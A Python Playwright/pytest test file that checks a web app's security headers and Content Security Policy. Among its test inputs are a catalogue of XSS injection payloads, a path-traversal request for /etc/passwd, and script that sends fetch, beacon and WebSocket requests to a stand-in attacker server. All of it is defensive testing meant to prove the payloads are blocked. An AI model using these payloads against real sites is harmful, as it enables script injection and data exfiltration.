"""What browsers are told with every answer, and what that keeps from whoever gets words in."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, sync_playwright

from tests.attacks.conftest import Target
from tests.browser.conftest import new_context
from tools.set_up_tests import find_browser

HTML = {"Accept": "text/html"}
EVERYWHERE = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "server": "",
}
"""What every answer has beside the policies, which differ."""

Asked = tuple[str, str, dict[str, Any], int]
BR, GZIP = {"Accept-Encoding": "br"}, {"Accept-Encoding": "gzip"}
PREFLIGHT = {"Origin": "http://evil.example", "Access-Control-Request-Method": "GET"}
FONT = "/fonts/inter-latin-wght-normal.woff2"
FLAGS = ("--no-sandbox", "--disable-features=LocalNetworkAccessChecks")
"""Chromium guards loopback by itself; a server of somebody else's would not stand there."""
POLL = "/_event/?EIO=4&transport=polling"

OF_ANYBODY: list[Asked] = [
    *(
        ("GET", path, {}, 200)
        for path in ("/", "/sign-in", "/messages/", "/messages/9", "/404.html")
    ),
    *(("GET", path, {}, 200) for path in ("/index.html", "/offline.html", "/manifest.webmanifest")),
    *(("GET", path, {}, 200) for path in ("/app.js", "/sw.js", "/app.css", "/favicon.svg")),
    *(("GET", "/app.js", {"headers": packed}, 200) for packed in (BR, GZIP)),
    *(("GET", "/messages", {"headers": packed}, 200) for packed in (BR, GZIP)),
    ("HEAD", "/messages", {}, 200),
    ("GET", "/app.css", {"headers": {"Range": "bytes=0-9"}}, 206),
    ("GET", "/app.css", {"headers": {"Range": "bytes=99999999-"}}, 416),
    *(("GET", path, {}, 404) for path in ("/nowhere", "/assets/gone.js", "/../../etc/passwd")),
    ("PUT", "/sign-in", {}, 405),
    ("GET", "/healthz", {}, 200),
    ("GET", "/readyz", {}, 0),
    ("GET", "/export/people.csv", {}, 303),
    ("GET", "/media/1", {}, 401),
    ("POST", "/uploads", {"json": {"name": "a", "size": 1}}, 401),
    ("POST", "/uploads", {"headers": {"Origin": "http://evil.example"}}, 403),
    ("POST", "/auth/sign-in", {"headers": {"Origin": "http://evil.example"}}, 403),
    ("POST", "/auth/sign-in", {"data": {"email": "a@b.example"}}, 303),
    ("POST", "/auth/register", {"data": {"invite": "made-up"}}, 303),
    ("POST", "/auth/new-password", {"data": {"link": "made-up"}}, 303),
    ("POST", "/auth/code", {"data": {"code": "000000"}}, 303),
    ("POST", "/auth/forgot", {"data": {"email": "a@b.example"}}, 303),
    ("POST", "/auth/passkey", {"data": {"answer": "{}"}}, 303),
    ("POST", "/auth/passkey/begin", {}, 200),
    ("POST", "/auth/sign-in", {"data": {"email": "a" * 2000}}, 422),
    ("OPTIONS", "/messages", {"headers": PREFLIGHT}, 0),
    ("OPTIONS", "/export/people.csv", {"headers": PREFLIGHT}, 0),
    ("GET", POLL, {}, 0),
    ("GET", "/messages", {"headers": {"Host": "evil.example"}}, 0),
]
"""Method, address, what goes with it, and the status (0: that is not the matter here)."""

OF_THE_OWNER: list[Asked] = [
    ("GET", "/", {"headers": GZIP}, 200),  # with words in it
    *(("GET", f"/export/{name}", {}, 200) for name in ("people.csv", "people.vcf", "messages.csv")),
    *(("GET", "/media/9999", {}, 404), ("GET", "/media/x", {}, 404)),
    ("GET", "/uploads/made-up", {}, 404),
    ("POST", "/uploads", {"json": {"name": "a", "size": 10**12}}, 413),
]


@pytest.mark.parametrize("asked", OF_ANYBODY, ids=lambda asked: f"{asked[0]} {asked[1]}")
def test_every_answer_to_anybody_has_every_header(target: Target, asked: Asked) -> None:
    _has_all_headers(_answer(target, asked), asked[3])


@pytest.mark.parametrize("asked", OF_THE_OWNER, ids=lambda asked: f"{asked[0]} {asked[1]}")
def test_so_has_every_answer_to_who_is_signed_in(target: Target, asked: Asked) -> None:
    _has_all_headers(_answer(target, asked, target.owner), asked[3])


def test_an_answer_that_nothing_changed_has_the_page_s_own_policy(target: Target) -> None:
    """A browser gives the page it has kept the headers of this answer."""
    first = target.browser().get("/messages")
    again = target.browser(If_None_Match=first.headers["etag"]).get("/messages")

    _has_all_headers(again, 304)
    policies = {one.headers["content-security-policy"] for one in (first, again)}
    assert len(policies) == 1


def test_a_live_line_that_is_refused_is_answered_with_every_header(target: Target) -> None:
    answer = target.browser().get(
        "/_event?EIO=4&transport=websocket",
        headers={
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Origin": "http://evil.example",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        },
    )

    _has_all_headers(answer, 403)


def test_no_page_may_run_words_as_a_script(target: Target) -> None:
    for path in ("/", "/sign-in", "/messages/9", "/nowhere", "/offline.html"):
        scripts = _directive(target.browser().get(path), "script-src")
        assert all(one == "'self'" or one.startswith("'sha256-") for one in scripts)
        assert len(scripts) > 1


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A browser for all tests of this file."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=find_browser(), args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def page(chromium: Browser, target: Target) -> Iterator[Page]:
    """A tab of the owner's browser."""
    context = new_context(chromium, target.product)
    name, _, value = target.owner.partition("=")
    context.add_cookies([{"name": name, "value": value, "url": target.url}])
    yield context.new_page()
    context.close()


def test_a_page_of_another_port_frames_none(page: Page, target: Target) -> None:
    paths = ("/", "/settings", "/sign-in", "/recipients/1", "/offline.html", "/app.js", "/healthz")
    frames = [f'<iframe src="{target.url}{path}"></iframe>' for path in paths]
    with _evil("".join(['<iframe src="/own"></iframe>', *frames]).encode()) as (evil, _asked):
        page.goto(evil)

        own, *others = [one.url for one in page.main_frame.child_frames]
        assert own == f"{evil}/own"
        assert others == ["chrome-error://chromewebdata/"] * len(paths)


INJECTED = {
    "inline": "<script>ran.push('inline')</script>",
    "module": "<script type=module>ran.push('module')</script>",
    "onerror": "<img src=/nowhere.png onerror=\"ran.push('onerror')\">",
    "onload": "<svg onload=\"ran.push('onload')\"></svg>",
    "onfocus": "<input autofocus onfocus=\"ran.push('onfocus')\">",
    "onbegin": "<svg><animate attributeName=x dur=1s onbegin=\"ran.push('onbegin')\"></svg>",
    "data": "<script src=\"data:text/javascript,ran.push('data')\"></script>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.ran.push('srcdoc')</script>\"></iframe>",
    "address": "<iframe src=\"javascript:parent.ran.push('address')\"></iframe>",
    "object": "<object data=\"data:text/html,<script>top.ran.push('object')</script>\"></object>",
    "link": "<a id=link href=\"javascript:ran.push('link')\">Go</a>",
    "elsewhere": "<script src=EVIL/run.js></script>",
    "base": "<base href=EVIL/><script src=run.js></script>",
    "map": '<script type=importmap>{"imports": {"/assets/": "EVIL/"}}</script>',
    "sheet": "<link rel=stylesheet href=EVIL/run.css>",
    "picture": "<img src=EVIL/told.png>",
    "sound": "<audio src=EVIL/told.mp3 autoplay></audio>",
    "form": "<iframe name=in></iframe><form id=form action=EVIL/told method=post target=in></form>",
    "frame": "<iframe src=EVIL/told></iframe>",
}
"""Words that somebody might get onto a page; EVIL is a server that wants to be asked."""

PRESSED = """() => {
  document.getElementById("link").click();
  document.getElementById("form").submit();
  for (const run of [() => eval("ran.push('eval')"), () => Function("ran.push('Function')")(),
    () => setTimeout("ran.push('timeout')"), () => fetch(`${EVIL}/told`).catch(() => {}),
    () => navigator.sendBeacon(`${EVIL}/told`), () => new WebSocket(EVIL.replace("http", "ws"))])
    try { run(); } catch { }
}"""


@pytest.mark.parametrize("path", ["/sign-in", "/", "/offline.html"])
def test_words_that_get_onto_a_page_run_nothing_and_tell_nobody(page: Page, path: str) -> None:
    with _evil(b"ran.push('elsewhere')") as (evil, asked):
        words = "".join(INJECTED.values()).replace("EVIL", evil)

        def inject(route: Route) -> None:
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("</body>", f"{words}</body>"))

        page.add_init_script(f"window.ran = []; const EVIL = {evil!r}")
        page.route(lambda url: url.endswith(path), inject)
        page.goto(path)
        page.locator("#link").wait_for(state="attached")
        # What the tools of this test call runs in a context of theirs, which no policy binds.
        with page.expect_console_message(lambda one: one.text == "pressed"):
            page.evaluate(f"setTimeout(() => {{ ({PRESSED})(); console.log('pressed'); }})")
        page.wait_for_timeout(300)  # for what begins by itself

        assert page.evaluate("ran") == []
        assert asked == []


def _answer(target: Target, asked: Asked, cookie: str = "") -> httpx.Response:
    method, path, given, _status = asked
    return target.browser(cookie).request(method, path, **given)


def _has_all_headers(answer: httpx.Response, status: int) -> None:
    assert answer.status_code == (status or answer.status_code)
    assert EVERYWHERE.items() <= answer.headers.items()
    assert "camera=()" in answer.headers["permissions-policy"]
    [policy] = answer.headers.get_list("content-security-policy")
    assert "frame-ancestors 'none'" in policy
    assert "unsafe-eval" not in policy
    assert "strict-transport-security" not in answer.headers  # it came by http
    assert not re.search("granian|uvicorn|starlette|python", str(answer.headers).lower())


def _directive(answer: httpx.Response, name: str) -> list[str]:
    policy = answer.headers["content-security-policy"]
    parts = dict(one.strip().partition(" ")[::2] for one in policy.split(";"))
    return parts[name].split()


@contextmanager
def _evil(said: bytes) -> Iterator[tuple[str, list[str]]]:
    """A server on another port: its origin, and what it was asked for beside its first page."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != "/":
                asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path != "/" else "text/html")
            self.end_headers()
            self.wfile.write(said)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}", asked
        server.shutdown()
